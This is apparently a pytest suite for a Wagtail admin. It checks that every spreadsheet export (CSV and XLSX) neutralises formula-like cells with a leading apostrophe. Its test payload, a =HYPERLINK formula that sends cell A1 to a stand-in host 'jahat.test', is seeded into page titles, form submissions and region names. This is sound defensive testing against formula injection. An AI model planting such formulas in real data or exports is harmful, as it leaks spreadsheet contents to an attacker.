"""Every spreadsheet export of the admin writes formulas as text (issue 9, finding 4).

The export views are not listed by hand: the URL resolver is walked for every view built on
Wagtail's ``SpreadsheetExportMixin`` (Wagtail's reports and listings, wagtail-localize's,
form submissions, our history and freshness reports). Every one is downloaded in each format
it offers, by a superuser, after a ``=HYPERLINK(…)`` value has been put where its rows come
from; no cell of any export may start like a formula, and each export that has columns must
show the value, neutralised with a leading ``'``.

The mechanism is ``villages.patches.spreadsheet_formulas``.
"""

from __future__ import annotations

import csv
import io
import re

from django.contrib.contenttypes.models import ContentType
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormSubmission
from wagtail.contrib.forms.views import SubmissionsListView, get_submissions_list_view
from wagtail.models import Page

import pytest
from openpyxl import load_workbook

from audit.models import Action
from audit.services import record
from home.models import ContactPage, StandardPage
from home.models.contact import ContactFormField
from tests import factories
from villages.models import Region
from villages.patches.spreadsheet_formulas import FORMULA_PREFIXES, neutralised

MARKER = '=HYPERLINK("http://jahat.test/?d="&A1,"Klik di sini")'
SAFE = "'" + MARKER


# -- finding the export views ------------------------------------------------------------------


def url_patterns(patterns=None, namespace=None):
    """``(url name, pattern)`` of every URL pattern of the installation."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            inner = namespace
            if pattern.namespace:
                inner = f"{namespace}:{pattern.namespace}" if namespace else pattern.namespace
            yield from url_patterns(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield (f"{namespace}:{pattern.name}" if namespace else pattern.name), pattern


def is_export_view(view_class) -> bool:
    return isinstance(view_class, type) and issubclass(view_class, SpreadsheetExportMixin)


# Routes whose callback is a function that picks the view class per request. The page
# explorer and page-type usage are exported by Wagtail's page viewsets; a form page's
# submissions by the class its model names.
def explorer_kwargs(seeded):
    return {"parent_page_id": seeded["page"].get_parent().pk}


def usage_kwargs(seeded):
    return {"content_type_app_name": "home", "content_type_model_name": "standardpage"}


def submissions_kwargs(seeded):
    return {"page_id": seeded["contact"].pk}


DISPATCHED = {
    "wagtailadmin_explore_root": ("ExplorableIndexView", lambda seeded: {}),
    "wagtailadmin_explore": ("ExplorableIndexView", explorer_kwargs),
    "wagtailadmin_explore_results": ("ExplorableIndexView", explorer_kwargs),
    "wagtailadmin_pages:type_use": ("ContentTypeUseView", usage_kwargs),
    "wagtailadmin_pages:type_use_results": ("ContentTypeUseView", usage_kwargs),
    "wagtailforms:list_submissions": ("SubmissionsListView", submissions_kwargs),
    "wagtailforms:list_submissions_results": ("SubmissionsListView", submissions_kwargs),
}
# Bases that no URL serves themselves.
ABSTRACT = {"IndexView", "ReportView", "PageReportView"}


def export_routes() -> dict[str, tuple[type | str, object]]:
    """``url name → (view class or its name, kwargs builder)`` of every export view."""
    routes = {}
    for name, pattern in url_patterns():
        view_class = getattr(pattern.callback, "view_class", None)
        if is_export_view(view_class):
            builder = None if not pattern.pattern.regex.groupindex else "missing"
            routes[name] = (view_class, builder)
        elif name in DISPATCHED:
            routes[name] = DISPATCHED[name]
    return routes


def all_subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from all_subclasses(sub)


def test_every_export_view_class_is_reached_by_the_walk():
    """A new export view that no route reaches (a dispatcher we do not know) fails here."""
    reached = {v if isinstance(v, str) else v.__name__ for v, _b in export_routes().values()}
    unreached = {
        f"{cls.__module__}.{cls.__qualname__}"
        for cls in all_subclasses(SpreadsheetExportMixin)
        if cls.__name__ not in reached | ABSTRACT
        and not cls.__module__.startswith("tests.")  # classes of the test suite itself
        and ".tests" not in cls.__module__
    }
    assert not unreached, f"export views no route of this test reaches: {sorted(unreached)}"
    assert get_submissions_list_view  # the form-submissions route is a function dispatcher
    assert {"HistoryView", "FreshnessDashboardView", "SubmissionsListView"} <= reached


def test_every_routed_export_with_parameters_has_its_parameters_here():
    missing = [name for name, (_v, builder) in export_routes().items() if builder == "missing"]
    assert not missing, f"give these export routes their URL parameters: {missing}"


# -- what the exports hold ---------------------------------------------------------------------


@pytest.fixture
def seeded(village_a, superuser):
    """A formula where every export's rows come from: a page's title (live, locked, in
    moderation, in the site history), a contact-form answer and field label, a village's
    history entry and its name on the freshness dashboard."""
    page = StandardPage(title=MARKER, slug="rumus-berbahaya")
    village_a.page.add_child(instance=page)
    page.save_revision(user=superuser, log_action=True).publish(user=superuser)
    page.refresh_from_db()
    page.save_revision(user=superuser)
    page.get_workflow().start(page, superuser)
    Page.objects.filter(pk=page.pk).update(
        locked=True, locked_by=superuser, locked_at=timezone.now()
    )

    contact = ContactPage.objects.child_of(village_a.page).get()
    field = ContactFormField.objects.create(
        page=contact, label=MARKER, field_type="singleline", required=False
    )
    FormSubmission.objects.create(
        page=contact, form_data={"nama": MARKER, "pesan": "-1+1", field.clean_name: MARKER}
    )

    record(village_a.region, Action.PAGE_EDIT, actor=superuser, label=MARKER, page=page)
    Region.objects.filter(pk=village_a.region.pk).update(name=MARKER)
    return {"page": page, "contact": contact}


def csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


NUMBER = re.compile(r"^[+-]?\d+([.,]\d+)?$")


def runs_as_formula(cell) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES) and not NUMBER.match(cell)


def view_attrs(view) -> tuple[tuple, list]:
    if isinstance(view, str):
        view = {"SubmissionsListView": SubmissionsListView}.get(view)
    if view is None:  # the page explorer and type usage: Wagtail's page listing
        from wagtail.admin.views.pages.listing import ExplorableIndexView

        view = ExplorableIndexView
    return view.FORMATS, view.list_export


def test_every_admin_export_writes_a_formula_as_text_in_csv_and_xlsx(client, seeded, superuser):
    client.force_login(superuser)
    ContentType.objects.clear_cache()
    checked, with_marker = [], []
    for name, (view, builder) in sorted(export_routes().items()):
        formats, list_export = view_attrs(view)
        kwargs = builder(seeded) if callable(builder) else {}
        for export_format in formats:
            response = client.get(reverse(name, kwargs=kwargs), {"export": export_format})
            assert response.status_code == 200, (name, export_format, response.status_code)
            if not response.streaming:  # this listing offers no export (no columns)
                assert not list_export or name in DISPATCHED, (name, export_format)
                continue
            cells = csv_cells(response) if export_format == "csv" else xlsx_cells(response)
            formulas = [cell for cell in cells if runs_as_formula(cell)]
            assert not formulas, (name, export_format, formulas[:3])
            checked.append((name, export_format))
            if SAFE in cells:
                with_marker.append((name, export_format))
            else:  # every export with columns has a row (or heading) holding the formula
                assert not list_export, (name, export_format, "formula not exported", cells[:20])

    exported = {name for name, _f in checked}
    assert {
        "audit_history",
        "editorial_freshness",
        "wagtailforms:list_submissions",
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:workflow",
        "wagtailadmin_reports:workflow_tasks",
    } <= exported
    for name in exported & {"audit_history", "wagtailforms:list_submissions"}:
        assert (name, "csv") in with_marker and (name, "xlsx") in with_marker, name
    assert ("editorial_freshness", "csv") in with_marker


def test_submission_export_neutralises_answers_and_headings_but_keeps_numbers(
    client, seeded, superuser
):
    client.force_login(superuser)
    url = reverse("wagtailforms:list_submissions", args=[seeded["contact"].pk])
    csv_rows = list(
        csv.reader(
            io.StringIO(b"".join(client.get(url, {"export": "csv"}).streaming_content).decode())
        )
    )
    assert SAFE in csv_rows[0]  # the field label, as a heading
    assert SAFE in csv_rows[1] and "'-1+1" in csv_rows[1]
    cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
    assert SAFE in cells and "'-1+1" in cells and MARKER not in cells


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Siti =1", "Siti =1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_formula_prefixes_are_neutralised_and_other_values_kept(value, expected):
    assert neutralised(value) == expected


def test_operator_export_of_own_submissions_is_neutralised_too(client, village_a):
    operator = factories.operator_of(village_a)
    contact = ContactPage.objects.child_of(village_a.page).get()
    FormSubmission.objects.create(page=contact, form_data={"nama": MARKER, "pesan": "Halo"})
    client.force_login(operator)
    response = client.get(
        reverse("wagtailforms:list_submissions", args=[contact.pk]), {"export": "csv"}
    )
    cells = csv_cells(response)
    assert SAFE in cells and MARKER not in cells
